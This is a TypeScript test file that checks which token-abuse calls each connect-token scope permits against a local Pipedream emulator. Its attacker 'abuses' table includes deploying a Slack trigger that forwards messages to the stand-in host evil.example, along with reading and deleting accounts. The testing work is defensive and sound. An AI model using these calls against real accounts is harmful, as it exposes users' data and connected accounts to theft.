import { CONNECT_TOKEN_SCOPE } from 'pipedream-client/node'
import { expect, test } from 'vitest'
import {
  createTimedGateway,
  finishUrlOf,
  follow,
  showAccounts,
  showHold,
} from '../../test/fixtures/follow-flow.ts'

const API = 'http://localhost:4010/v1/connect'

interface Call {
  method?: string
  path: string
  body?: object
}

// What an attacker can try at Pipedream itself with the connect token that the gateway returned to his page.
const ABUSES = (accountId: string): Record<string, Call> => ({
  'list the accounts': { path: '/proj_emulator/accounts' },
  'read the account': { path: `/proj_emulator/accounts/${accountId}` },
  'call the provider': {
    path: `/proj_emulator/proxy/${Buffer.from('https://slack.com/echo').toString('base64url')}?external_user_id=mallory&account_id=${accountId}`,
  },
  'run an action': {
    path: '/proj_emulator/actions/run',
    body: {
      id: 'slack-list-channels',
      external_user_id: 'mallory',
      configured_props: { slack: { authProvisionId: accountId } },
    },
  },
  'deploy a trigger': {
    path: '/proj_emulator/triggers/deploy',
    body: {
      id: 'slack-new-message',
      external_user_id: 'mallory',
      configured_props: { slack: { authProvisionId: accountId } },
      webhook_url: 'https://evil.example/',
    },
  },
  'delete the account': { method: 'DELETE', path: `/proj_emulator/accounts/${accountId}` },
})

const ALL = Object.keys(ABUSES(''))

async function createScene(scope: string) {
  const gateway = await createTimedGateway({
    connectTokens: {
      allowedOrigins: ['http://localhost:3000'],
      scope,
      connectUrl: 'http://localhost:4010/_static/connect.html',
    },
  })
  const mallory = await gateway.signIn('mallory')
  // The victim uses up one token; nothing stops the attacker from getting another one.
  const { token } = await mallory.startConnecting('slack')
  const { accountIds } = gateway.emulator.seed({
    accounts: [
      { app: 'slack', externalUserId: 'mallory', createdAt: gateway.emulator.clock.now() },
    ],
  })
  const [accountId = ''] = accountIds
  expect(await showAccounts(mallory)).toEqual([{ id: accountId, held: true }])
  const call = ({ method, path, body }: Call) =>
    gateway.emulator.fetch(
      new Request(`${API}${path}`, {
        method: method ?? (body ? 'POST' : 'GET'),
        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
        ...(body && { body: JSON.stringify(body) }),
      }),
    )
  return { gateway, mallory, accountId, call }
}

test.each([
  {
    scope: CONNECT_TOKEN_SCOPE,
    can: ['list the accounts', 'read the account', 'delete the account'],
  },
  { scope: 'connect:*', can: ALL },
  { scope: 'connect:accounts:read', can: ['list the accounts', 'read the account'] },
  { scope: 'connect:accounts:write', can: ['delete the account'] },
])('with scope $scope a raw token can do this to a held account: $can', async ({ scope, can }) => {
  const { accountId, call } = await createScene(scope)
  const outcomes = new Map<string, string>()
  for (const [name, abuse] of Object.entries(ABUSES(accountId))) {
    const { ok, status } = await call(abuse)
    outcomes.set(name, ok ? 'done' : String(status))
  }
  expect([...outcomes]).toEqual(ALL.map((name) => [name, can.includes(name) ? 'done' : '403']))
})

test('a raw token never reads credentials, with any scope', async () => {
  const { accountId, call } = await createScene('connect:*')
  const response = await call({
    path: `/proj_emulator/accounts/${accountId}?include_credentials=true`,
  })
  expect(await response.json()).not.toHaveProperty('credentials')
})

test.each([CONNECT_TOKEN_SCOPE, 'connect:accounts:read', 'connect:accounts:write'])(
  'with scope %s users connect as before, and a stranger still revokes the flow',
  async (scope) => {
    const { gateway } = await createScene(scope)
    const ada = await gateway.signIn('ada')
    const accountId = await ada.connectOpenai()
    expect(await showAccounts(ada)).toEqual([{ id: accountId, held: false }])
    const eve = await gateway.signIn('eve')
    const { token } = await eve.startConnecting('openai')
    const finishUrl = await finishUrlOf(gateway, token)
    const made = await eve.typeKey(token, 'openai')
    await follow(gateway, finishUrl, { cookies: new Map() })
    expect(await showHold(eve, made)).toMatchObject({ heldReason: 'FINISHED_ELSEWHERE' })
  },
)
